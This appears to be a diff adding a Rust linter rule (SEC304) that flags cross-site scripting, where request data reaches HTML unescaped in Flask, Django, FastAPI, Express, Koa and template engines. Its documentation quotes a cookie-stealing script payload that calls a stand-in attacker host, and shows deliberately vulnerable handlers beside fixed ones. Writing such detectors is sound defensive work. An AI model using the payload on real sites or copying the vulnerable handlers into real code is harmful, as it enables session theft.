@@ -1,0 +1,567 @@
+//! SEC304 xss: request data written into HTML without escaping.
+
+use ba_syntax::NodeExt;
+use tree_sitter::Node;
+
+use super::{sink_argument, CallSink};
+use crate::{
+    Applicability, Captures, Category, Check, Checker, Edit, FixAvailability, Rule, Severity,
+};
+use ba_analysis::{ancestors, named_children, Arguments, Sink};
+use ba_syntax::Family;
+
+pub static RULE: Rule = Rule {
+    code: "SEC304",
+    name: "xss",
+    category: Category::Security,
+    severity: Severity::Error,
+    cwe: &[79],
+    owasp: Some("A03:2021 Injection"),
+    summary: "Request data reaches HTML without escaping; render it through an autoescaping template or `escape()` it.",
+    docs: DOCS,
+    fix: FixAvailability::Sometimes,
+    checks: &[
+        Check {
+            family: Family::Python,
+            query_path: "python/calls.scm",
+            query: include_str!("../../../../queries/python/calls.scm"),
+            run: check_call,
+        },
+        Check {
+            family: Family::Python,
+            query_path: "python/returns.scm",
+            query: include_str!("../../../../queries/python/returns.scm"),
+            run: check_return,
+        },
+        Check {
+            family: Family::JavaScript,
+            query_path: "javascript/calls.scm",
+            query: include_str!("../../../../queries/javascript/calls.scm"),
+            run: check_javascript,
+        },
+        Check {
+            family: Family::JavaScript,
+            query_path: "javascript/calls.scm",
+            query: include_str!("../../../../queries/javascript/calls.scm"),
+            run: check_js_escaping_off,
+        },
+        Check {
+            family: Family::JavaScript,
+            query_path: "javascript/bindings.scm",
+            query: include_str!("../../../../queries/javascript/bindings.scm"),
+            run: check_koa_body,
+        },
+    ],
+};
+
+/// Whether a JavaScript expression builds a string: a template literal with substitutions,
+/// `+`, `.concat()`/`.join()`, directly or through the local it is bound to.
+fn js_built<'a>(checker: &Checker<'a>, node: Node<'a>, depth: u32) -> bool {
+    match node.kind_str() {
+        "template_string" => named_children(node)
+            .iter()
+            .any(|c| c.kind_str() == "template_substitution"),
+        "binary_expression" => node
+            .field("operator")
+            .is_some_and(|o| checker.text(o) == "+"),
+        "call_expression" => node
+            .field("function")
+            .and_then(|f| f.field("property"))
+            .is_some_and(|p| matches!(checker.text(p), "concat" | "join" | "replace")),
+        "parenthesized_expression" => node
+            .named_child(0)
+            .is_some_and(|c| js_built(checker, c, depth)),
+        "identifier" if depth < 3 => match checker.lookup(node) {
+            ba_analysis::Lookup::Local(bindings) => bindings.iter().any(|b| match b {
+                ba_analysis::Binding::Value(v) | ba_analysis::Binding::Augmented(v) => {
+                    js_built(checker, *v, depth + 1)
+                }
+                _ => false,
+            }),
+            _ => false,
+        },
+        _ => false,
+    }
+}
+
+/// Express `res.send(html)`, `res.write(html)`, `res.end(html)`: a string body is sent as
+/// `text/html` by `send` and sniffed by browsers from `write`/`end`.
+fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
+        return;
+    };
+    if func.kind_str() != "member_expression" {
+        return;
+    }
+    let method = func
+        .field("property")
+        .map(|p| checker.text(p))
+        .unwrap_or("");
+    if !matches!(method, "send" | "write" | "end") {
+        return;
+    }
+    // The receiver chain starts at `res`/`response`: `res.status(404).send(…)`.
+    let Some(receiver) = func.field("object") else {
+        return;
+    };
+    let mut root = receiver;
+    loop {
+        root = match root.kind_str() {
+            "call_expression" => match root.field("function") {
+                Some(f) => f,
+                None => return,
+            },
+            "member_expression" => match root.field("object") {
+                Some(o) => o,
+                None => return,
+            },
+            _ => break,
+        };
+    }
+    if root.kind_str() != "identifier" || !matches!(checker.text(root), "res" | "response") {
+        return;
+    }
+    let chain = checker.text(receiver);
+    if chain.contains("json") || chain.contains("text/plain") || chain.contains(".type(\"text\")") {
+        return;
+    }
+    let Some(body) = checker.arguments(args).positional.clone().first().copied() else {
+        return;
+    };
+    // Objects and arrays are sent as JSON.
+    if matches!(body.kind_str(), "object" | "array") {
+        return;
+    }
+    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    // A value sent as is may be an object (sent as JSON); only request fields that are strings
+    // by nature are HTML when sent raw.
+    if !js_built(checker, body, 0)
+        && ![
+            ".query", ".params", ".cookies", ".headers", ".get(", ".header(",
+        ]
+        .iter()
+        .any(|s| taint.what.contains(s))
+    {
+        return;
+    }
+    let from = checker.describe(&taint);
+    checker
+        .report(body, format!("`res.{method}` sends a string built from {from} as HTML without escaping; render a template (autoescaped) or escape the value (`escape-html`, `he.encode`)"))
+        .with_taint(&taint);
+}
+
+/// Template engines configured to render variables unescaped: (callee, index of the options
+/// argument, option, the value that turns escaping off).
+const JS_ESCAPING_OFF: &[(&str, usize, &str, &str)] = &[
+    ("nunjucks.configure", 1, "autoescape", "false"),
+    ("nunjucks.Environment", 1, "autoescape", "false"),
+    ("handlebars.compile", 1, "noEscape", "true"),
+    ("handlebars.precompile", 1, "noEscape", "true"),
+    ("express-handlebars.engine", 0, "noEscape", "true"),
+    ("express-handlebars.create", 0, "noEscape", "true"),
+    ("express-handlebars", 0, "noEscape", "true"),
+];
+
+/// `nunjucks.configure("views", { autoescape: false })`, `Handlebars.compile(t, { noEscape:
+/// true })`: every variable in every template is then written as raw HTML.
+fn check_js_escaping_off<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
+        return;
+    };
+    let callees: Vec<&str> = JS_ESCAPING_OFF.iter().map(|e| e.0).collect();
+    let Some(callee) = checker.resolve_callee(func, &callees) else {
+        return;
+    };
+    let Some(&(_, index, option, off)) = JS_ESCAPING_OFF.iter().find(|e| e.0 == callee) else {
+        return;
+    };
+    let positional = checker.arguments(args).positional.clone();
+    // `nunjucks.configure({ autoescape: false })`: the options may come first.
+    let options = positional
+        .get(index)
+        .or_else(|| positional.first().filter(|o| o.kind_str() == "object"));
+    let Some(value) = options.and_then(|o| super::js_option(checker, *o, option)) else {
+        return;
+    };
+    if value.kind_str() != off {
+        return;
+    }
+    let short = super::callee(checker.text(func));
+    checker.report(value, format!(
+        "`{short}` with `{option}: {off}` renders every template variable as raw HTML, so any data that reaches a template can inject script; keep escaping on and mark only trusted, sanitised fragments as safe"
+    ));
+}
+
+/// Whether `node` is Koa's context: `ctx`/`context` (not an import) or `ctx.response`.
+fn is_koa_context<'a>(checker: &Checker<'a>, node: Node<'a>) -> bool {
+    match node.kind_str() {
+        "identifier" => {
+            matches!(checker.text(node), "ctx" | "context") && checker.resolve(node).is_none()
+        }
+        "member_expression" => {
+            node.field("property")
+                .is_some_and(|p| checker.text(p) == "response")
+                && node
+                    .field("object")
+                    .is_some_and(|o| is_koa_context(checker, o))
+        }
+        _ => false,
+    }
+}
+
+/// Whether the text Koa will see may start with `<`: Koa sends a string body as `text/html`
+/// when it starts with `<` (after spaces), else as `text/plain`. `None` when it depends on data.
+fn starts_with_markup(checker: &Checker, node: Node) -> Option<bool> {
+    match node.kind_str() {
+        "string" => Some(
+            checker
+                .text(node)
+                .trim_matches(['"', '\''])
+                .trim_start()
+                .starts_with('<'),
+        ),
+        "template_string" => {
+            let first = named_children(node).into_iter().next()?;
+            match first.kind_str() {
+                "string_fragment" => Some(checker.text(first).trim_start().starts_with('<')),
+                _ => None,
+            }
+        }
+        "binary_expression" => node
+            .field("left")
+            .and_then(|l| starts_with_markup(checker, l)),
+        "parenthesized_expression" => node
+            .named_child(0)
+            .and_then(|c| starts_with_markup(checker, c)),
+        _ => None,
+    }
+}
+
+/// Koa: `ctx.body = string`. A string that starts with `<` is sent as HTML, so request data
+/// at the start of the body (or anywhere in a body that starts with markup, or with
+/// `ctx.type = "html"`) is XSS.
+fn check_koa_body<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(target), Some(value)) = (caps.get("target"), caps.get("value")) else {
+        return;
+    };
+    let is_body = target.kind_str() == "member_expression"
+        && target
+            .field("property")
+            .is_some_and(|p| checker.text(p) == "body")
+        && target
+            .field("object")
+            .is_some_and(|o| is_koa_context(checker, o));
+    if !is_body {
+        return;
+    }
+    if matches!(value.kind_str(), "object" | "array") {
+        return;
+    }
+    let Some(taint) = checker.taint(value, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    // The handler may say what it sends: `ctx.type = "json"` / `"text/plain"` / `"html"`.
+    let function = ancestors(checker.item, value).into_iter().rev().find(|a| {
+        matches!(
+            a.kind_str(),
+            "arrow_function"
+                | "function_expression"
+                | "function"
+                | "function_declaration"
+                | "method_definition"
+        )
+    });
+    let scope_text = checker.text(function.unwrap_or(checker.item));
+    let declared = |t: &str| {
+        scope_text.contains(&format!("type = \"{t}"))
+            || scope_text.contains(&format!("type = '{t}"))
+    };
+    if declared("json") || declared("text/plain") || declared("text") && !declared("text/html") {
+        return;
+    }
+    let html = declared("html") || declared("text/html");
+    let built = js_built(checker, value, 0);
+    let raw_string = [
+        ".query", ".params", ".cookies", ".headers", ".get(", ".header(",
+    ]
+    .iter()
+    .any(|s| taint.what.contains(s));
+    let reaches_html = if html {
+        built || raw_string
+    } else if built {
+        // Built text: HTML if it starts with markup or with the data itself.
+        starts_with_markup(checker, value) != Some(false)
+    } else {
+        raw_string
+    };
+    if !reaches_html {
+        return;
+    }
+    let from = checker.describe(&taint);
+    let what = if built { "a string built from " } else { "" };
+    checker
+        .report(value, format!("`ctx.body` is set to {what}{from}; Koa sends a string that starts with `<` as HTML, so the data can inject markup: render a template (autoescaped), escape the value (`escape-html`), or set `ctx.type = \"text/plain\"`"))
+        .with_taint(&taint);
+}
+
+/// Calls that mark a string as safe HTML or send it as an HTML body.
+const SINKS: &[CallSink] = &[
+    CallSink {
+        callees: &[
+            "markupsafe.Markup",
+            "flask.Markup",
+            "jinja2.Markup",
+            "jinja2.utils.Markup",
+        ],
+        index: 0,
+        keyword: "base",
+    },
+    CallSink {
+        callees: &[
+            "django.utils.safestring.mark_safe",
+            "django.utils.safestring.SafeString",
+        ],
+        index: 0,
+        keyword: "s",
+    },
+    CallSink {
+        callees: &[
+            "django.http.HttpResponse",
+            "django.http.response.HttpResponse",
+        ],
+        index: 0,
+        keyword: "content",
+    },
+    CallSink {
+        callees: &[
+            "starlette.responses.HTMLResponse",
+            "fastapi.responses.HTMLResponse",
+        ],
+        index: 0,
+        keyword: "content",
+    },
+    CallSink {
+        callees: &[
+            "flask.make_response",
+            "flask.Response",
+            "werkzeug.wrappers.Response",
+            "flask.wrappers.Response",
+        ],
+        index: 0,
+        keyword: "response",
+    },
+];
+
+/// A content type that a browser will not render as HTML.
+fn not_html(checker: &Checker, args: &Arguments) -> bool {
+    ["content_type", "mimetype", "media_type"].iter().any(|k| {
+        args.keyword(k, checker.source).is_some_and(|v| {
+            let t = checker.text(v);
+            !t.contains("html") && (t.starts_with('"') || t.starts_with('\''))
+        })
+    })
+}
+
+fn check_call<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let (Some(func), Some(args_node)) = (caps.get("func"), caps.get("args")) else {
+        return;
+    };
+    if let Some(q) = checker.resolve_callee(
+        func,
+        &["jinja2.Environment", "jinja2.environment.Environment"],
+    ) {
+        check_environment(checker, func, args_node, &q);
+        return;
+    }
+    let Some((name, body)) = sink_argument(checker, func, args_node, SINKS) else {
+        return;
+    };
+    if not_html(checker, &checker.arguments(args_node)) {
+        return;
+    }
+    let Some(taint) = checker.taint(body, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    let from = checker.describe(&taint);
+    let short = name.rsplit('.').next().unwrap_or(&name);
+    let message = if matches!(short, "Markup" | "mark_safe" | "SafeString") {
+        format!("`{short}` marks {from} as safe HTML, so templates stop escaping it; pass the raw value to the template (or `escape()` it first)")
+    } else {
+        format!("`{short}` sends {from} as an HTML body without escaping; render a template (autoescaped) or `escape()` the value")
+    };
+    checker.report(body, message).with_taint(&taint);
+}
+
+/// `jinja2.Environment(...)` without autoescaping (Jinja2's default is off).
+fn check_environment<'a>(checker: &mut Checker<'a>, func: Node<'a>, args_node: Node<'a>, _q: &str) {
+    let args = checker.arguments(args_node);
+    match args.keyword_node("autoescape", checker.source) {
+        Some(kw) => {
+            let value = kw.field("value").map(|v| checker.text(v));
+            if value == Some("False") {
+                let range = kw
+                    .field("value")
+                    .map(|v| v.byte_range())
+                    .unwrap_or(kw.byte_range());
+                checker
+                    .report(kw, "Jinja2 `Environment(autoescape=False)` renders variables unescaped; use `autoescape=select_autoescape()` (or `True`)")
+                    .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range, content: "True".into() }]);
+            }
+        }
+        None => {
+            if args
+                .keywords
+                .iter()
+                .any(|k| checker.text(*k).starts_with("**"))
+            {
+                return;
+            }
+            let end = args_node.end_byte() - 1;
+            let sep = if args.positional.is_empty() && args.keywords.is_empty() {
+                ""
+            } else {
+                ", "
+            };
+            checker
+                .report(func, "Jinja2 `Environment()` without `autoescape` renders variables unescaped (Jinja2's default); pass `autoescape=select_autoescape()` (or `True`)")
+                .with_fix("Turn autoescaping on", Applicability::Unsafe, vec![Edit { range: end..end, content: format!("{sep}autoescape=True") }]);
+        }
+    }
+}
+
+/// Decorator methods that make a function a Flask view.
+const ROUTES: &[&str] = &["route", "get", "post", "put", "patch", "delete"];
+
+/// Whether `node` is inside a Flask view (its string return values are sent as `text/html`).
+fn in_flask_view(checker: &Checker, node: Node) -> bool {
+    if !super::imports_any(checker, &["flask", "quart"]) {
+        return false;
+    }
+    let path = ancestors(checker.item, node);
+    let Some(i) = path
+        .iter()
+        .rposition(|n| n.kind_str() == "function_definition")
+    else {
+        return false;
+    };
+    let Some(decorated) = i
+        .checked_sub(1)
+        .map(|j| path[j])
+        .filter(|d| d.kind_str() == "decorated_definition")
+    else {
+        return false;
+    };
+    named_children(decorated).iter().any(|d| {
+        d.kind_str() == "decorator"
+            && d.named_child(0)
+                .filter(|c| c.kind_str() == "call")
+                .and_then(|c| c.field("function"))
+                .and_then(|f| f.field("attribute"))
+                .is_some_and(|a| ROUTES.contains(&checker.text(a)))
+    })
+}
+
+fn check_return<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
+    let Some(mut value) = caps.get("value") else {
+        return;
+    };
+    // `return body, 200` / `return (body, 200, headers)`
+    if matches!(value.kind_str(), "expression_list" | "tuple") {
+        match value.named_child(0) {
+            Some(first) => value = first,
+            None => return,
+        }
+    }
+    let built = match value.kind_str() {
+        "string" => named_children(value)
+            .iter()
+            .any(|c| c.kind_str() == "interpolation"),
+        "binary_operator" => true,
+        "call" => value
+            .field("function")
+            .and_then(|f| f.field("attribute"))
+            .is_some_and(|a| matches!(checker.text(a), "format" | "join")),
+        _ => false,
+    };
+    let plain = matches!(value.kind_str(), "identifier" | "subscript" | "call");
+    if !(built || plain) || !in_flask_view(checker, value) {
+        return;
+    }
+    let Some(taint) = checker.taint(value, Sink::Html).filter(|t| t.user) else {
+        return;
+    };
+    // A value returned as is may be a dict or list (sent as JSON); only request fields that
+    // are strings by nature are HTML when returned raw.
+    if !built
+        && ![
+            "request.args",
+            "request.form",
+            "request.values",
+            "request.cookies",
+            "request.headers",
+            "URL parameter",
+        ]
+        .iter()
+        .any(|s| taint.what.contains(s))
+    {
+        return;
+    }
+    let from = checker.describe(&taint);
+    checker
+        .report(value, format!("this Flask view returns a string built from {from}, which Flask sends as HTML unescaped; use `render_template` (autoescaped) or wrap the value in `escape()`"))
+        .with_taint(&taint);
+}
+
+const DOCS: &str = r#"## What it does
+Flags request data that reaches HTML unescaped: Flask views returning strings built from it
+(Flask sends them as `text/html`), `Markup`/`mark_safe` applied to it, Django `HttpResponse`,
+Flask `make_response`/`Response` and Starlette/FastAPI `HTMLResponse` bodies built from it, and
+Jinja2 environments created without autoescaping; in Express, `res.send`/`res.write`/`res.end`
+of strings built from request data (or request strings such as `req.query.name` sent as is);
+in Koa, `ctx.body = …` with request data where Koa will send it as HTML (a string starting with
+`<`, request data at its start, or `ctx.type = "html"`); and template engines configured to
+render unescaped (`nunjucks.configure(…, { autoescape: false })`, Handlebars `noEscape: true`).
+Values passed through `escape`, `html.escape`, `bleach.clean`, `escape-html`,
+`encodeURIComponent`, or bodies sent as `text/plain` or JSON are not reported.
+
+## Why is this bad?
+`?name=<script>fetch('//evil.example/'+document.cookie)</script>` runs in the victim's browser
+with your site's origin: sessions are stolen and actions taken in the user's name.
+
+## Example
+```python
+@app.get("/hello")
+def hello():
+    return f"<h1>Hello {request.args.get('name', '')}</h1>"
+```
+```javascript
+app.get("/hello", (req, res) => {
+  res.send(`<h1>Hello ${req.query.name}</h1>`);
+});
+```
+
+## Use instead
+```python
+from markupsafe import escape
+
+@app.get("/hello")
+def hello():
+    return f"<h1>Hello {escape(request.args.get('name', ''))}</h1>"
+```
+```javascript
+const escapeHtml = require("escape-html");
+
+app.get("/hello", (req, res) => {
+  res.send(`<h1>Hello ${escapeHtml(req.query.name)}</h1>`);
+});
+```
+Better: `render_template("hello.html", name=name)` (or `res.render("hello", { name })`), which
+escapes by default.
+
+## References
+- [CWE-79: Cross-site Scripting](https://cwe.mitre.org/data/definitions/79.html)
+- [OWASP A03:2021 Injection](https://owasp.org/Top10/A03_2021-Injection/)
+- [Flask: security considerations (XSS)](https://flask.palletsprojects.com/en/stable/web-security/#cross-site-scripting-xss)
+"#;
